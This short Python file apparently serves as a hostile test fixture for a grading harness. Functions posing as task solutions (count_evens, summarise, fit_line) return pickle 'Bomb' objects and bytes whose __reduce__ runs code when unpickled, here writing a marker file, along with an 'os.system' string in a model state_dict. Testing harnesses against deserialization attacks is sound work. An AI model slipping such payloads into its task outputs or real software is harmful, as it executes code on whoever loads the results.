"""I01: returns objects and bytes that run code wherever somebody unpickles them."""

# %% count_evens
import io, pickle


class Bomb:
    def __reduce__(self):
        return open, (f"{VICTIM}/attack-i01", "w")


def count_evens(numbers):
    return Bomb()


# %% summarise
def summarise(values):
    file = io.BytesIO()
    torch.save({"mean": Bomb()}, file)
    return {"mean": pickle.dumps(Bomb()), "steps": file.getvalue()}


# %% fit_line
class Model:
    def state_dict(self):
        return {"weight": Bomb(), "bias": pickle.dumps(Bomb()), "__reduce__": "os.system"}


def fit_line(x, y):
    return Model()
